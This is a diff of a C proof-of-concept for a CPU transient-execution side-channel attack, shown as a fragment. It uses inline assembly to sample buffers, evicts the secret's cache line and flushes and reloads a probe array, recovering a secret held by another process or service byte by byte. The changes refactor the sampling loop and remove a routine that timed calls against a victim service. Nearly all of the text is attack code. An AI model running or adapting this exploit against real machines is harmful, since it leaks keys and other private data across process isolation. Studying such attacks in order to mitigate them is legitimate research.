@@ -28,13 +28,17 @@ static uint8_t elsewhere[PAGE_BYTES + LINE_BYTES] __attribute__((aligned(64), un
 /* What has been found, behind the mark. */
 static uint8_t found[KNOWN_BEFORE + MOST_FOUND];
 
+/* Of a sample: where in a page its loads are, and the bytes before the wanted one. */
+static int place;
+static uint64_t known;
+
 /* The bytes before the secret's byte at an index, the first of them lowest. */
 static inline uint64_t known_before(int index)
 {
-	uint64_t known = 0;
+	uint64_t bytes = 0;
 
-	memcpy(&known, found + index, KNOWN_BEFORE);
-	return known;
+	memcpy(&bytes, found + index, KNOWN_BEFORE);
+	return bytes;
 }
 
 /*
@@ -50,29 +54,24 @@ static inline int place_of_load(int index)
 }
 
 /*
- * Prepares that the secret comes in anew when it is used next: its line is evicted. Before that it
- * is used a few times more, so that what else its user needs is in the cache, and does not come in
+ * Prepares that the secret's line comes in anew when it is used next: evicts it. Before that it is
+ * used a few times more, so that what else its user needs is in the cache, and does not come in
  * after it.
  */
 static inline void prepare_use(int index)
 {
 	enum { USES = 3 };
 
-	flush_probe(probe);
 	for (int i = 0; i < USES; i++)
 		use_secret(index);
 	evict(options.address + index, first_level_pages);
-	touch(elsewhere);
-	touch(elsewhere + PAGE_BYTES);
-	memory_fence();
 }
 
 /*
- * Assembly: a load of eight bytes at %[address]; if the first seven are those in %[known], the last
- * is sent by %[probe], otherwise a zero by %[elsewhere]. Uses %rax, %rcx and %rdx.
+ * Assembly: if the first seven bytes of %rax are those in %[known], its last is sent by %[probe],
+ * otherwise a zero by %[elsewhere]. Uses %rax, %rcx and %rdx.
  */
-#define SAMPLE_BUFFER                           \
-	"mov (%[address]), %%rax\n\t"           \
+#define SEND_IF_KNOWN                           \
 	"xor %[known], %%rax\n\t"               \
 	"mov %%rax, %%rcx\n\t"                  \
 	"shl $8, %%rcx\n\t"                     \
@@ -88,37 +87,27 @@ static inline void prepare_use(int index)
 	"and $0xf0, %%eax\n\t"                  \
 	"shl $4, %%eax\n\t"                     \
 	"movzbl 4096(%%rcx, %%rax), %%edx\n\t"
-#define SAMPLE_FOUR_BUFFERS SAMPLE_BUFFER SAMPLE_BUFFER SAMPLE_BUFFER SAMPLE_BUFFER
-#define SAMPLE_BUFFERS SAMPLE_FOUR_BUFFERS SAMPLE_FOUR_BUFFERS SAMPLE_FOUR_BUFFERS
 
-/* A system call, then the loads that sample, for the byte at an index. */
-static void call_and_sample(long number, long first, const void *second, long third, int index);
+/* As many samples of a kind as fit into one transient window. */
+#define FOUR_TIMES(sample) sample sample sample sample
+#define TWELVE_TIMES(sample) FOUR_TIMES(sample) FOUR_TIMES(sample) FOUR_TIMES(sample)
 
-/*
- * The service may run as soon as it has been asked, before that call returns, or when its answer is
- * waited for. So every other time the one call comes right before the loads, or the other.
- */
-static inline int sample(int index)
+/* A load of eight bytes at %[address]. */
+#define SAMPLE_BUFFER "mov (%[address]), %%rax\n\t" SEND_IF_KNOWN
+
+/* The next sample is for the byte at an index. */
+static inline void aim(int index)
 {
-	static int waited;
-	struct service_request request = guess_at(index);
-	uint8_t answer;
-
-	prepare_use(index);
-	if (options.call) {
-		call_and_sample(options.call, 0, NULL, 0, index);
-	} else if ((waited = !waited)) {
-		send_guess(index);
-		call_and_sample(SYS_read, answers_of_service, &answer, 1, index);
-	} else {
-		call_and_sample(SYS_write, requests_to_service, &request, sizeof(request), index);
-		receive_answer();
-	}
-	return reload_probe(probe);
+	place = place_of_load(index);
+	known = known_before(index);
+	flush_probe(probe);
+	touch(elsewhere);
+	touch(elsewhere + PAGE_BYTES);
+	memory_fence();
 }
 
 /* Recovers the secret's bytes in order, as each is needed for those behind it. */
-static inline void recover_in_order(void)
+static inline void recover_in_order(int (*sample)(int index))
 {
 	if (options.bytes > MOST_FOUND)
 		errx(2, "expected --bytes up to %d", MOST_FOUND);
